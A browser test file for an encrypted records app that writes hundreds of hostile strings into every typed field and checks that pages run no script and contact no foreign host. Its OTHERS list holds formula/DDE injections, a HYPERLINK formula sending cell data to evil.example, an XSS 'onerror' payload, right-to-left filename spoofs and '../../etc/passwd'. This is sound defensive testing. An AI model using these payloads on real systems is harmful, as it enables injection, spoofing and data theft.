"""Script, markup, links, formulas and marks of direction as the words of everything: in every room they are words.

The texts are those of tests/browser/records/hostile.js, and what spreadsheets, calendars and readers of text are tricked with.
One kind of record after the other takes its texts from the list, in each field that a person can type; then every page is opened.
"""

from __future__ import annotations

import itertools
import json
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest

from alcove_cli.ids import make_id
from alcove_cli.keyring import format_moment, make_keys
from alcove_cli.safe import Safe
from alcove_seal.records.kinds import KINDS, Field
from alcove_seal.records.record import make_record
from alcove_seal.records.refused import RecordRefused
from tests.attacks.people import now
from tests.ground.running import ROOT, Running
from tests.stories.conftest import Opens
from tests.stories.pages import WIDE, rooms_of, settled
from tests.stories.people import (
    PASSWORD,
    Person,
    accept_invitation,
    an_address,
    arrive,
    complete_invitation,
    fresh_door,
    invite,
)

pytestmark = [pytest.mark.browser, pytest.mark.slow]
OTHERS = [
    *(f"{sign}cmd|' /C calc'!A0" for sign in "=+-@\t\r"),
    '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:https://evil.example/x\r\nEND:VEVENT",
    "\u202egnp.exe", "\u2066\u2069\u200f\u200b", "a\u0000b", "Z\u0351\u036b\u0343a" * 9, "\ufeff", "%n%s%x", "../../etc/passwd",
    "https://evil.example/\u202egpj.exe", "//evil.example/a", "\\\\evil.example\\share", "https://evil.example@good.example/",
]  # fmt: skip
NAMED = '<img src=x onerror=alert(1)>\u202e{{7*7}}"'
FOREIGN = """(own) => [...document.querySelectorAll("a[href], form[action], [src], [srcset], [style]")].map((each) =>
    each.href || each.action || each.src || each.getAttribute("style") || "").filter((one) => !one.startsWith(own) && !/^(https?:|mailto:|blob:|data:image)/.test(one))"""
RAN = """() => [...document.querySelectorAll("script")].filter((each) => !["importmap", "module"].includes(each.type)).length
    + document.querySelectorAll("iframe, object, embed, base, #alcove script, #alcove style, #alcove link, #alcove meta").length"""


def hostile() -> list[str]:
    command = "import { HOSTILE } from './tests/browser/records/hostile.js'; console.log(JSON.stringify(HOSTILE))"
    said = subprocess.run(
        ["node", "--input-type=module", "-e", command], cwd=ROOT, check=True, capture_output=True, text=True
    )
    return [*json.loads(said.stdout), *OTHERS]


def value_of(field: Field, texts: Iterator[str], ids: list[str]) -> Any:
    """Something that a person can type there; None for what no one types."""
    text = next(texts)[: field.most or 200]
    if field.type == "text":
        return text
    if field.type == "lines":
        return [text, next(texts)[:200]]
    if field.type == "dated":
        return [{"words": text, "day": "2026-11-22"}]
    simple = {
        "id": ids[0],
        "day": "2026-11-22",
        "number": max(1, field.least or 1),
        "quarter": "2026-Q4",
        "ids": ids[:1],
    }
    return field.of[0] if field.type == "choice" else simple.get(field.type)


def write_all(safe: Safe, where: str, pair: str, texts: Iterator[str]) -> int:
    """Some records of every kind that a client would write there. Return how many texts are in them."""
    ids: list[str] = [make_id(now())]
    written = 0
    for kind, spec in KINDS.items():
        for _ in range(9 if spec.words != "none" and where in spec.safes else 0):
            fields = {
                name: value_of(field, texts, ids)
                for name, field in spec.fields.items()
                if field.needed or field.type in ("text", "dated")
            }
            fields = {name: value for name, value in fields.items() if name != "pair" and value is not None}
            if where == "mine" and "pair" in spec.fields:
                fields["pair"] = pair
            try:
                record = make_record(kind, next(texts), fields, format_moment(now()), 0, where)
            except RecordRefused:
                continue  # too long for this field, or no words are left when its signs fall away
            ids.insert(0, make_id(now()))
            safe.write(ids[0], record)
            written += 1
    safe.push()
    return written


def arrive_as(server: str, name: str, administrator: Person) -> Person:
    """Somebody whose name is no name; the address of their mail is one."""
    door, email = fresh_door(server), f"named.{an_address()}@alcove.example"
    join = administrator.door.post("/api/join-links")
    door.get("/api/me")
    door.post("/api/sign-up-pass", {"join": join["token"]})
    door.sign_up(name=name, email=email, password=PASSWORD)
    return Person(name, email, *make_keys(door, at=now()))


@pytest.fixture(scope="module")
def table(house: Running, otto: Person) -> tuple[Person, str]:
    """Ana and somebody with a hostile name, with a table full of hostile words of both, and in Ana's Mine."""
    ana, other = arrive(house.url, "Ana", otto), arrive_as(house.url, NAMED, otto)
    invitation, secret = invite(ana.keyring, my_role="lead", at=now())
    pair = accept_invitation(other.keyring, invitation, secret, at=now())
    key = complete_invitation(ana.keyring, invitation, at=now())
    texts = itertools.cycle(hostile())
    written = [write_all(Safe(who.keyring, pair, 1, key), "ours", pair, texts) for who in (ana, other)]
    written.append(write_all(Safe(ana.keyring), "mine", pair, texts))
    assert sum(written) > 250, written
    return ana, pair


def test_in_every_room_they_stay_words(house: Running, table: tuple[Person, str], opens: Opens) -> None:
    """`opens` fails on every error, every breach of the policy and every request to somebody else."""
    ana, pair = table
    someone = opens(house.url, ana)
    dialogs: list[str] = []
    someone.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    someone.visit("/").unlock()
    for path in [*WIDE, *rooms_of(pair)]:
        page = settled(someone.visit(path).page)
        page.wait_for_timeout(150)
        assert page.evaluate(FOREIGN, house.url) == [], path
        assert page.evaluate(RAN) == 0, path
        assert NAMED not in page.title()
    assert dialogs == []


def test_the_texts_are_enough() -> None:
    assert len(hostile()) > 500
